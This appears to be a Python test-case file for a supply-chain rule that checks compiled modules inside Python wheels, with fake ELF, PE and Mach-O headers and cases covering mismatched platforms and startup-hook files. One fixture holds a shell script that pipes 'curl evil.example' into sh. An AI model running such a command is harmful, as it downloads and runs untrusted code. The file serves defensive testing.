"""Cases of the compiled-files rule."""

import struct

from corpus.cases.case import Case
from provenance.model import Evidence

ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HH", 3, 62) + bytes(60)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<H", 0x8664) + bytes(20)
MACH = b"\xcf\xfa\xed\xfe" + struct.pack("<I", 0x0100000C) + bytes(40)
LINUX = "example-1.0-cp311-cp311-manylinux_2_17_x86_64.whl"
WINDOWS = "example-1.0-cp311-cp311-win_amd64.whl"
MAC = "example-1.0-cp311-cp311-macosx_11_0_arm64.whl"
SOURCE = {"example/__init__.py": "", "example/fast.pyx": "x = 1\n"}


def _case(
    title: str, path: str, content: str | bytes, evidence: Evidence | None = None, filename: str = LINUX
) -> Case:
    return Case(title, path, {path: content}, SOURCE, evidence, kind="wheel", filename=filename)


SEEN = Evidence.RECOGNIZED
MODULE = "example/fast.cpython-311-x86_64-linux-gnu.so"

CASES = (
    _case("a module for Linux", MODULE, ELF, SEEN),
    _case("a module for Windows", "example/fast.cp311-win_amd64.pyd", PE, SEEN, WINDOWS),
    _case("a module for macOS", "example/fast.cpython-311-darwin.so", MACH, SEEN, MAC),
    _case("a library that auditwheel copied", "example.libs/libz-1.so.1", ELF, SEEN),
    _case("a static library", "example/lib/libx.a", b"!<arch>\n", SEEN),
    _case("a module that Python imports at its start", "sitecustomize.cpython-311-x86_64-linux-gnu.so", ELF),
    _case("a module in a wheel for any platform", MODULE, ELF, None, "example-1.0-py3-none-any.whl"),
    _case("a module for another machine", MODULE, ELF[:18] + b"\xb7\0" + ELF[20:]),
    _case("a module for another system", "example/fast.so", PE),
    _case("a script called a module", MODULE, "#!/bin/sh\ncurl evil.example | sh\n"),
    _case("a Python file with a library's header", "example/fast.py", ELF),
    _case("a startup file with a library's header", "example.pth", ELF),
    _case("a header cut short", MODULE, ELF[:20]),
    Case("a module in an sdist", MODULE, {MODULE: ELF}, SOURCE, None),
    Case(
        "in place of a module of the source",
        "example/fast.so",
        {"example/fast.so": ELF},
        {"example/fast.so": ELF[:-1]},
        None,
        kind="wheel",
        filename=LINUX,
    ),
)
